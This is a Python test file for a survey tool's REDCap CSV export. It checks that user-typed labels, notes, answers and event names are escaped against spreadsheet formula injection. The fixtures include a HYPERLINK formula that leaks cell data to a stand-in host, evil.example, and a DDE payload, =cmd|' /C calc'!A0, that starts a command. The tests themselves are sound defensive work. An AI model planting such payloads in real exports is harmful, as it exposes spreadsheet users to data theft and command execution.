"""Formula injection in the REDCap files Mentora writes: what people typed (answers, labels,
notes, event and arm names) cannot run in a spreadsheet; numbers and the code columns REDCap
reads (action tags, min, max, branching logic, calculations) keep their values."""

from __future__ import annotations

from mentora.surveys import interchange as ix
from mentora.surveys.interchange.csvio import read_rows, write_rows
from mentora.surveys.interchange.records import Record

HYPERLINK = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
HEADER = [
    "Variable / Field Name", "Form Name", "Section Header", "Field Type", "Field Label",
    "Choices, Calculations, OR Slider Labels", "Field Note",
    "Text Validation Type OR Show Slider Number", "Text Validation Min", "Text Validation Max",
    "Identifier?", "Branching Logic (Show field only if...)", "Required Field?",
    "Custom Alignment", "Question Number (surveys only)", "Matrix Group Name",
    "Matrix Ranking?", "Field Annotation",
]


def _dictionary() -> str:
    rows = [
        HEADER,
        ["record_id", "survey", "", "text", "Record ID", "", "", "", "", "", "", "", "", "", "",
         "", "", ""],
        ["name", "survey", "-Section", "text", "+1 your name", "", "@note", "", "", "", "y", "",
         "", "", "", "", "", ""],
        ["score", "survey", "", "text", "@SUM(1)", "", "", "integer", "-5", "5", "", "", "", "",
         "", "", "", ""],
        ["rating", "survey", "", "radio", "=1+1 rating", "1, Low | 2, =High", "", "", "", "", "",
         "[score] > -2", "", "", "", "", "", "@MENTORA-LIKERT"],
        ["twice", "survey", "", "calc", "Twice", "[score]*2", "", "", "", "", "", "", "", "", "",
         "", "", ""],
        ["comment", "survey", "", "notes", "Comment", "", "", "", "", "", "", "", "", "", "", "",
         "", ""],
    ]
    return write_rows(rows)


def test_records_quote_typed_text_and_keep_numbers() -> None:
    instrument = ix.parse_dictionary(_dictionary())
    record = Record(
        "1", {"name": "-2", "score": "-2", "comment": HYPERLINK, "rating": "1"}
    )
    other = Record("2", {"name": "+1", "comment": "-2 as text", "score": "3"})
    rows = read_rows(ix.records_to_csv(instrument, [record, other]))
    header = rows[0]
    cell = {(row[0], column): row[header.index(column)] for row in rows[1:] for column in header}
    assert cell["1", "comment"] == "'" + HYPERLINK
    assert cell["2", "comment"] == "'-2 as text"
    assert cell["1", "name"] == "-2"  # a number typed as text stays a number
    assert cell["1", "score"] == "-2"
    assert cell["2", "name"] == "+1"
    assert not any(value.startswith(("=", "@", "+", "-")) and value not in ("-2", "+1")
                   for row in rows[1:] for value in row)


def test_dictionary_quotes_labels_and_notes_but_keeps_code_columns() -> None:
    instrument = ix.parse_dictionary(_dictionary())
    rows = {row[0]: row for row in read_rows(ix.dictionary_to_csv(instrument))[1:]}
    assert rows["name"][2] == "'-Section"
    assert rows["name"][4] == "'+1 your name"
    assert rows["name"][6] == "'@note"
    assert rows["score"][4] == "'@SUM(1)"
    assert rows["rating"][4] == "'=1+1 rating"
    # The code columns REDCap reads keep their values.
    assert rows["score"][8:10] == ["-5", "5"]
    assert rows["rating"][11] == "[score] > -2"
    assert "@MENTORA-LIKERT" in rows["rating"][17]
    assert rows["twice"][5] == "[score]*2"
    # And Mentora reads its own file back to the same instrument.
    assert ix.parse_dictionary(ix.dictionary_to_csv(instrument)) == instrument


def test_event_and_arm_names_are_quoted() -> None:
    events = [ix.Event(name="=cmd|' /C calc'!A0", arm=1, unique_name="baseline_arm_1")]
    row = read_rows(ix.events_to_csv(events))[1]
    assert row[0] == "'=cmd|' /C calc'!A0"
    arms = [ix.Arm(number=1, name="@arm")]
    assert read_rows(ix.arms_to_csv(arms))[1] == ["1", "'@arm"]
